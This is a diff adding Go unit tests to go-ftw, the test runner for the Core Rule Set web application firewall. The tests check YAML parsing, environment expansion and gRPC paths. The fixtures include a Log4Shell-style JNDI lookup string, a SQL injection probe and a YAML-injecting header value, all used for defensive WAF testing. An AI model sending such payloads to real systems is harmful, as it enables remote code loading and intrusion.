@@ -1,7 +1,9 @@
 package test
 
 import (
+	"path/filepath"
 	"regexp"
+	"strings"
 	"testing"
 
 	"github.com/coreruleset/go-ftw/utils"
@@ -80,3 +82,157 @@ func TestGetFromBadYAML(t *testing.T) {
 		t.Fatalf("Error!")
 	}
 }
+
+var yamlEnvTest = `---
+meta:
+  author: "tester"
+  enabled: true
+tests:
+  - test_title: 911100-1
+    stages:
+      - stage:
+          input:
+            dest_addr: "${FTW_TEST_DEST_ADDR}"
+            port: ${FTW_TEST_PORT}
+            headers:
+              Host: "${FTW_TEST_DEST_ADDR}"
+              X-Quoted: "${FTW_TEST_QUOTED}"
+            data: "${FTW_TEST_DEST_ADDR}/${jndi:ldap://example.com/a}"
+          output:
+            status: [200]
+`
+
+func TestGetTestFromYAMLExpandsEnv(t *testing.T) {
+	t.Setenv("FTW_TEST_DEST_ADDR", "waf.example.com")
+	t.Setenv("FTW_TEST_PORT", "8080")
+	t.Setenv("FTW_TEST_QUOTED", "a\"\nb: c")
+
+	ftwTest, err := GetTestFromYaml([]byte(yamlEnvTest))
+	if err != nil {
+		t.Fatal(err)
+	}
+	input := ftwTest.Tests[0].Stages[0].Stage.Input
+	if *input.DestAddr != "waf.example.com" || input.Headers.Get("Host") != "waf.example.com" {
+		t.Errorf("destination was not expanded: %s, %s", *input.DestAddr, input.Headers.Get("Host"))
+	}
+	if *input.Port != 8080 {
+		t.Errorf("port was not expanded: %d", *input.Port)
+	}
+	if value := input.Headers.Get("X-Quoted"); value != "a\"\nb: c" {
+		t.Errorf("the value of the variable must not be read as YAML, got %q", value)
+	}
+	if *input.Data != "${FTW_TEST_DEST_ADDR}/${jndi:ldap://example.com/a}" {
+		t.Errorf("payload must be kept as it is, got %s", *input.Data)
+	}
+}
+
+func TestGetTestFromYAMLBadPort(t *testing.T) {
+	t.Setenv("FTW_TEST_PORT", "eighty")
+
+	if _, err := GetTestFromYaml([]byte(yamlEnvTest)); err == nil {
+		t.Error("a port that is not a number must be rejected")
+	}
+}
+
+func TestGetTestFromYAMLComposedOutput(t *testing.T) {
+	ftwTest, err := GetTestFromYaml([]byte(`---
+meta:
+  author: "tester"
+  enabled: true
+  name: "942100.yaml"
+tests:
+  - test_title: 942100-1
+    stages:
+      - stage:
+          input:
+            dest_addr: "127.0.0.1"
+          output:
+            all_of:
+              - status: [403]
+              - log:
+                  rule_ids: [942100]
+            not:
+              log_contains: "id \"949110\""
+`))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	output := ftwTest.Tests[0].Stages[0].Stage.Output
+	if len(output.AllOf) != 2 || output.AllOf[0].Status[0] != 403 || output.AllOf[1].Log.ExpectIDs[0] != 942100 {
+		t.Errorf("unexpected all_of %+v", output.AllOf)
+	}
+	if output.Not == nil || output.Not.LogContains.String() != `id "949110"` {
+		t.Errorf("unexpected not %+v", output.Not)
+	}
+	if !output.hasAssertion() {
+		t.Errorf("groups are assertions")
+	}
+}
+
+var yamlGRPCTest = `---
+meta:
+  author: "tester"
+  enabled: true
+tests:
+  - test_title: 911100-1
+    stages:
+      - stage:
+          input:
+            grpc:
+              descriptor_set: "protos/echo.protoset"
+              service: "echo.Echo"
+              method: "Echo"
+          output:
+            status: [200]
+      - stage:
+          input:
+            include: ["snippets/grpc.yaml"]
+          output:
+            status: [200]
+`
+
+var yamlGRPCSnippet = `grpc:
+  descriptor_set: "protos/echo.protoset"
+  service: "echo.Echo"
+  method: "Echo"
+`
+
+func TestGRPCDescriptorSet(t *testing.T) {
+	dir := writeTestFiles(t, map[string]string{
+		"tests/911100.yaml":        yamlGRPCTest,
+		"tests/snippets/grpc.yaml": yamlGRPCSnippet,
+	})
+
+	tests, err := GetTestsFromFiles(filepath.Join(dir, "tests", "*.yaml"))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	stages := tests[0].Tests[0].Stages
+	if set := stages[0].Stage.Input.GRPC.DescriptorSet; set != filepath.Join(dir, "tests", "protos", "echo.protoset") {
+		t.Errorf("the descriptor set must be relative to the test, got %s", set)
+	}
+	if set := stages[1].Stage.Input.GRPC.DescriptorSet; set != filepath.Join(dir, "tests", "snippets", "protos", "echo.protoset") {
+		t.Errorf("the descriptor set must be relative to the snippet, got %s", set)
+	}
+}
+
+func TestGetTestFromYAMLUnknownLogKey(t *testing.T) {
+	_, err := GetTestFromYaml([]byte(`---
+meta:
+  author: "tester"
+tests:
+  - test_title: 942100-1
+    stages:
+      - stage:
+          input:
+            uri: "/?id=1'"
+          output:
+            log:
+              expect_ids: [942100]
+`))
+	if err == nil || !strings.Contains(err.Error(), `unknown field "expect_ids"`) {
+		t.Errorf("a misspelled key of the log expectations must be rejected, got %v", err)
+	}
+}